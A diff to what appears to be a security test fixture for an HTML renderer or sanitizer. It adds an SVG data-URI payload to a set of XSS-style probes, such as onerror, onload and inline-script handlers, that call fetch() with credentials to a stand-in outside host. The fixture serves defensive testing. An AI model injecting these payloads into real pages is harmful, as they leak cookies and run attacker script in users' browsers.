@@ -37,6 +37,7 @@ const attack = (far: string) => `<p id="seen" onclick="top.stolen = 1">Hostile</
   document.getElementById('seen').textContent = 'Run';
 </script>
 <script src="code.js"></script><script src="disguised.txt"></script>
+<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22${far}/by-data-image%22)'/%3E" alt=""/>
 <img src="none.png" alt="" onerror="fetch('${far}/by-handler', { credentials: 'include' })"/>
 <svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${far}/by-svg', { credentials: 'include' })</script></svg>
 <img src="${far}/by-image" alt=""/><img src="/by-own-image" alt=""/>
